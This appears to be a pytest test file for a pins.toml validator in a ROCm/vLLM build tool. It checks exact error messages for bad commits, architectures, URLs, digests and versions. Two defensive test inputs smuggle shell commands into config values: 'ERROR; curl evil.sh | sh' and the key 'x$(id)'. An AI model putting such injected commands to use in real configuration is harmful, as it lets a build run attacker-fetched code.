"""pins.toml: the real file loads, and every kind of bad input is one exact line."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
from conftest import PINS, delete_toml, edit_toml, run_doit

from rocmgraph import kinds, pins
from rocmgraph.errors import PinsError

ARCHS = (
    "gfx900, gfx906, gfx908, gfx90a, gfx940, gfx941, gfx942, gfx950, gfx1010, gfx1030, "
    "gfx1100, gfx1101, gfx1102, gfx1150, gfx1151, gfx1200, gfx1201, gfx1250"
)
SOURCE_KEYS = (
    "arch_env, branch, commit, env, install_deps, mirror, overlay, patches, repo, requirements, "
    "subdirs, submodules, tag, uninstall, version"
)

Edit = Callable[[str], str]
MAX_JOBS_LINE = next(
    number
    for number, line in enumerate(PINS.read_text().splitlines(), start=1)
    if line.startswith("max_jobs = 64")
)

BAD: dict[str, tuple[Edit, str]] = {
    "toml syntax, with line and column": (
        lambda t: t.replace("max_jobs = 64", "max_jobs = = 64"),
        f"pins.toml: line {MAX_JOBS_LINE}, column 12: invalid TOML: Invalid value; "
        "fix the syntax at that position",
    ),
    "unknown key, with a suggestion": (
        lambda t: edit_toml(t, ["sources", "vllm", "comit"], "18d87a87"),
        "pins.toml: [sources.vllm]: unknown key 'comit'; did you mean 'commit'? "
        f"known keys: {SOURCE_KEYS}",
    ),
    "unknown table": (
        lambda t: t + '\n[sourcs.x]\nrepo = "https://example.org/x"\n',
        "pins.toml: top level: unknown key 'sourcs'; did you mean 'sources'? "
        "known keys: base, build, env, image, mirrors, prune, python, rocm, sources, wheels",
    ),
    "wrong type": (
        lambda t: edit_toml(t, ["build", "max_jobs"], "64"),
        "pins.toml: [build].max_jobs: expected an integer, got a string '64'; write an integer",
    ),
    "string where an array belongs": (
        lambda t: edit_toml(t, ["build", "archs"], "gfx942"),
        "pins.toml: [build].archs: expected an array, got a string 'gfx942'; write an array",
    ),
    "commit that is not hex": (
        lambda t: edit_toml(
            t, ["sources", "vllm", "commit"], "18d87a87dc39c1a50f452b218fdcc3aeec48d18z"
        ),
        "pins.toml: [sources.vllm].commit: '18d87a87dc39c1a50f452b218fdcc3aeec48d18z' is not a "
        "git commit id (hex digits only); write the full 40-hex commit id",
    ),
    "commit too short to name anything": (
        lambda t: edit_toml(t, ["sources", "vllm", "commit"], "18d87a"),
        "pins.toml: [sources.vllm].commit: '18d87a' is not a git commit id (7 to 40 hex digits); "
        "write the full 40-hex commit id",
    ),
    "unknown arch": (
        lambda t: edit_toml(t, ["build", "archs"], ["gfx942", "gfx943"]),
        "pins.toml: [build].archs: 'gfx943' is not a known GPU architecture; "
        f"did you mean 'gfx942'? known archs: {ARCHS}",
    ),
    "plain http url": (
        lambda t: edit_toml(t, ["sources", "vllm", "repo"], "http://github.com/vllm-project/vllm"),
        "pins.toml: [sources.vllm].repo: 'http://github.com/vllm-project/vllm' is not an https "
        "URL (plain http is allowed for loopback mirrors only); "
        "use https://, or http://127.0.0.1 for a loopback mirror",
    ),
    "value that could reach a shell": (
        lambda t: edit_toml(t, ["env", "NCCL_DEBUG"], "ERROR; curl evil.sh | sh"),
        "pins.toml: [env].NCCL_DEBUG: 'ERROR; curl evil.sh | sh' has characters that could "
        "reach a shell unquoted: ' ' ';' '|'; use only letters, digits and . _ : / @ % + = , ~ ^ -",
    ),
    "key that could reach a shell": (
        lambda t: edit_toml(t, ["python", "stack", "x$(id)"], "1.0"),
        "pins.toml: [python.stack]: key 'x$(id)' has characters that could reach a shell "
        "unquoted: '$' '(' ')'; use letters, digits, '.', '_' and '-'",
    ),
    "missing key": (
        lambda t: delete_toml(t, ["sources", "vllm", "commit"]),
        "pins.toml: [sources.vllm].commit: missing; add `commit = ...` to [sources.vllm]",
    ),
    "value listed twice": (
        lambda t: edit_toml(t, ["build", "archs"], ["gfx942", "gfx942"]),
        "pins.toml: [build].archs: lists 'gfx942' twice; list each value once",
    ),
    "environment variable name": (
        lambda t: edit_toml(t, ["env", "nccl_debug"], "x"),
        "pins.toml: [env]: key 'nccl_debug' is not an environment variable name; "
        "use upper-case letters, digits and '_'",
    ),
    "digest": (
        lambda t: edit_toml(t, ["base", "digest"], "sha256:abc"),
        "pins.toml: [base].digest: 'sha256:abc' is not an image digest (sha256:<64 hex>); "
        'write the digest as sha256:<64 hex>, or leave it "" for `doit lock`',
    ),
    "digest inside the image reference": (
        lambda t: edit_toml(t, ["base", "image"], "rocm/primus@sha256:" + "a" * 64),
        f"pins.toml: [base].image: 'rocm/primus@sha256:{'a' * 64}' is not an image reference "
        "(registry/name:tag; the digest goes in `digest`); "
        "write registry/name:tag and put the digest in its own key",
    ),
    "stage a base cannot provide": (
        lambda t: edit_toml(t, ["base", "provides"], ["rocm", "vllm"]),
        "pins.toml: [base].provides: 'vllm' is not a stage a base image can provide; "
        "list only 'rocm' and 'wheels'",
    ),
    "no jobs": (
        lambda t: edit_toml(t, ["build", "max_jobs"], 0),
        "pins.toml: [build].max_jobs: 0 is not a number of jobs; "
        "write a positive integer (vLLM needs about 4 GiB per job)",
    ),
    "sha256": (
        lambda t: edit_toml(t, ["wheels", "torch", "sha256"], "ABC"),
        "pins.toml: [wheels.torch].sha256: 'ABC' is not a sha256 (64 lowercase hex digits); "
        'write the 64-hex sha256, or leave it "" for `doit lock` to record',
    ),
    "version": (
        lambda t: edit_toml(t, ["python", "stack", "datasets"], "latest"),
        "pins.toml: [python.stack].datasets: 'latest' is not a PEP 440 version; "
        "write an exact PEP 440 version such as 1.2.3",
    ),
}


@pytest.mark.parametrize("case", sorted(BAD))
def test_bad_pins_give_one_exact_line(case: str, pins_text: str) -> None:
    edit, message = BAD[case]
    with pytest.raises(PinsError) as caught:
        pins.loads(edit(pins_text), "pins.toml")
    assert str(caught.value) == message


def test_real_pins_load_into_frozen_typed_values() -> None:
    loaded = pins.load(PINS)
    assert loaded.build.archs == ("gfx942", "gfx950")
    assert loaded.sources["vllm"].commit == "18d87a87dc39c1a50f452b218fdcc3aeec48d18e"
    assert loaded.sources["sglang"].install_deps is False
    assert loaded.python.stack["megatron-core"] == "0.18.0"
    with pytest.raises(AttributeError):
        loaded.build.max_jobs = 1  # type: ignore[misc]
    with pytest.raises(TypeError):
        loaded.sources["x"] = loaded.sources["vllm"]  # type: ignore[index]


def test_real_pins_hold_every_pin_of_the_design() -> None:
    loaded = pins.load(PINS)
    commits = {name: source.commit for name, source in loaded.sources.items()}
    assert commits == {
        "aiter": "b5e03ed19",
        "causal_conv1d": "e940ead2fd962c56854455017541384909ca669f",
        "flash_attention": "",
        "mbridge": "a61943d7fcb34a190471cfeb0a0eb8bbda621ddf",
        "sglang": "0801cc05ed202544e2e5c67d6b0a1d454de54fca",
        "torch_memory_saver": "",
        "transformer_engine": "e6ede467",
        "verl": "7b19203c52503760f92e0368067c7eb744236274",
        "vllm": "18d87a87dc39c1a50f452b218fdcc3aeec48d18e",
    }
    assert loaded.sources["flash_attention"].tag == "v2.8.3"
    assert loaded.base.image == "docker.io/rocm/primus:v26.4"
    assert loaded.rocm.version == "7.14"
    assert loaded.rocm.pin_origin == "repo.radeon.com"
    assert loaded.rocm.pin_priority == 600
    assert {name: wheel.version for name, wheel in loaded.wheels.items()} == {
        "apex": "",
        "torch": "2.12.0",
        "torchaudio": "",
        "torchvision": "",
        "triton": "3.7.0",
    }
    assert dict(loaded.python.stack) == {
        "TransferQueue": "0.1.8",
        "accelerate": "1.14.0",
        "cupy-rocm-7-0": "14.1.1",
        "datasets": "5.0.0",
        "flash-linear-attention": "0.5.1",
        "mathruler": "0.1.0",
        "mcore_bridge": "1.5.2",
        "megatron-core": "0.18.0",
        "qwen_vl_utils": "0.0.14",
    }
    assert dict(loaded.env) == {
        "HSA_ENABLE_IPC_MODE_LEGACY": "1",
        "MIOPEN_DEBUG_FORCE_IMMED_MODE_FALLBACK": "1",
        "NCCL_DEBUG": "ERROR",
        "NVTE_USE_GROUPED_GEMM_TRITON": "1",
        "PYTORCH_ALLOC_CONF": "expandable_segments:True",
        "ROCPROFILER_LOG_LEVEL": "fatal",
        "SGLANG_ATTENTION_BACKEND": "triton",
        "SGLANG_USE_AITER": "0",
    }


def test_what_cannot_be_known_offline_is_listed_as_missing() -> None:
    missing = {pins.format_path(m.path): m.why for m in pins.load(PINS).missing()}
    assert missing["[base].digest"] == "image digest unknown; `doit lock` resolves it"
    assert missing["[sources.aiter].commit"] == "short commit id; `doit lock` records the full id"
    assert missing["[sources.torch_memory_saver].commit"] == (
        "no commit is pinned; `doit lock` records upstream's"
    )
    assert missing["[wheels.torch].sha256"] == (
        "sha256 unknown; `doit lock` records it at first download"
    )
    assert "[sources.vllm].commit" not in missing


def test_loopback_mirrors_may_use_plain_http(pins_text: str) -> None:
    for url in ("http://127.0.0.1:8080/vllm.git", "http://localhost/vllm"):
        loaded = pins.loads(edit_toml(pins_text, ["sources", "vllm", "repo"], url))
        assert loaded.sources["vllm"].repo == url


def test_lists_are_sets_so_their_order_never_feeds_a_key(pins_text: str) -> None:
    swapped = edit_toml(pins_text, ["build", "archs"], ["gfx950", "gfx942"])
    assert pins.loads(swapped).flat() == pins.loads(pins_text).flat()


def test_every_string_kind_refuses_shell_characters() -> None:
    assert (
        kinds.unsafe_problem("a b") == "'a b' has characters that could reach a shell unquoted: ' '"
    )
    assert kinds.unsafe_problem("expandable_segments:True") is None


def test_missing_file_is_one_line(tmp_path: Path) -> None:
    with pytest.raises(PinsError) as caught:
        pins.load(tmp_path / "nope.toml")
    assert (
        str(caught.value)
        == f"{tmp_path / 'nope.toml'}: no such file; pass pins=<path> to a pins file"
    )


def test_bad_pins_exit_without_traceback(write_pins: Callable[[str], Path], pins_text: str) -> None:
    bad = write_pins(edit_toml(pins_text, ["sources", "vllm", "commit"], "not-a-commit"))
    result = run_doit("plan", f"pins={bad}")
    assert result.returncode == 1
    assert result.stdout == ""
    assert result.stderr == (
        f"error: {bad}: [sources.vllm].commit: 'not-a-commit' is not a git commit id "
        "(hex digits only); write the full 40-hex commit id\n"
    )
